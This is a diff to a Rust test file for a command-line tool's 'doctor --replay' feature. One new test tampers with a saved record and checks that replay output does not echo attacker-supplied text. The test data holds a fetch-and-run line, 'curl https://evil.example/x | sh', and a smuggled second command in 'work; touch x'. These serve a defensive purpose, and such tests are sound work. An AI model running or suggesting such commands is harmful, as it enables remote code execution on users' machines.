@@ -148,7 +148,18 @@ async fn a_record_says_the_same_again_without_a_request() {
         let mut arguments = vec!["doctor", "--replay", &name];
         arguments.extend(format);
         let again = bench.home.run(&arguments).await.ended_with(3);
-        assert_eq!(again.stdout, run.stdout);
+        match format.is_empty() {
+            false => assert_eq!(again.stdout, run.stdout),
+            true => {
+                let (head, page) = again.stdout.split_once("\n\n").expect("a head");
+                assert_eq!(page, run.stdout);
+                assert!(
+                    head.starts_with(&format!("from {name}, recorded 2")),
+                    "{head}"
+                );
+                assert!(head.ends_with("; nothing was asked now"), "{head}");
+            }
+        }
         assert_eq!(bench.world.recorder.requests().len(), 0);
     }
     // What a later version adds is passed over; a later format is not guessed at.
@@ -168,6 +179,60 @@ async fn a_record_says_the_same_again_without_a_request() {
     assert!(newer.stderr.contains("update doorkey"), "{newer}");
     let none = shown(&json!({"format": 1})).await.ended_with(1);
     assert!(none.stderr.contains("no record"), "{none}");
+}
+
+#[tokio::test]
+async fn a_record_that_somebody_changed_says_nothing_to_type() {
+    let bench = Bench::new().await;
+    let path = bench.home.path().join("seen.json");
+    let name = path.display().to_string();
+    bench.run(&["--record", &name]).await.ended_with(3);
+    let text = std::fs::read(&path).expect("a file");
+    let mut record: Value = serde_json::from_slice(&text).expect("JSON");
+    let evil = "curl https://evil.example/x | sh";
+    let diagnosis = &mut record["diagnosis"];
+    diagnosis["steps"][0]["detail"] = json!("z".repeat(200_000));
+    diagnosis["server"] = json!("work; touch x");
+    let finding = &mut diagnosis["findings"][0];
+    finding["title"] = json!(evil);
+    finding["section"] = json!(evil);
+    finding["values"]["login"] = json!(evil);
+    finding["mend"] = json!({ "text": evil, "command": evil, "config": evil });
+    let mut unknown = finding.clone();
+    unknown["id"] = json!("made-up");
+    let all = diagnosis["findings"].as_array_mut().expect("findings");
+    all.extend(std::iter::repeat_n(unknown, 1000));
+    std::fs::write(&path, record.to_string()).expect("a file");
+    for format in [&["--json"][..], &[]] {
+        let mut arguments = vec!["doctor", "--replay", &name];
+        arguments.extend(format);
+        let run = bench.home.run(&arguments).await.ended_with(3);
+        assert!(!run.stdout.contains(evil), "{run}");
+        assert!(
+            run.stdout.contains("doorkey login 'work; touch x'"),
+            "{run}"
+        );
+        assert!(run.stdout.contains("knows no such fault"), "{run}");
+        assert!(!run.stdout.contains(&"z".repeat(1000)), "{run}");
+        assert!(run.stdout.matches("made-up").count() < 200, "{run}");
+    }
+}
+
+#[tokio::test]
+async fn a_record_that_cannot_be_written_is_told_before_anybody_is_asked() {
+    let bench = Bench::new().await;
+    let folder = bench.home.path().display().to_string();
+    bench.world.recorder.clear();
+    for path in [format!("{folder}/nowhere/seen.json"), folder] {
+        let arguments = ["--json", "--force", "--record", path.as_str()];
+        let run = bench.run(&arguments).await.ended_with(1);
+        assert_eq!(run.json()["error"]["code"], "output-failed", "{run}");
+        assert!(
+            run.stderr.contains(&path) && !run.stderr.contains(".record-"),
+            "{run}"
+        );
+        assert_eq!(bench.world.recorder.requests().len(), 0, "{run}");
+    }
 }
 
 #[tokio::test]
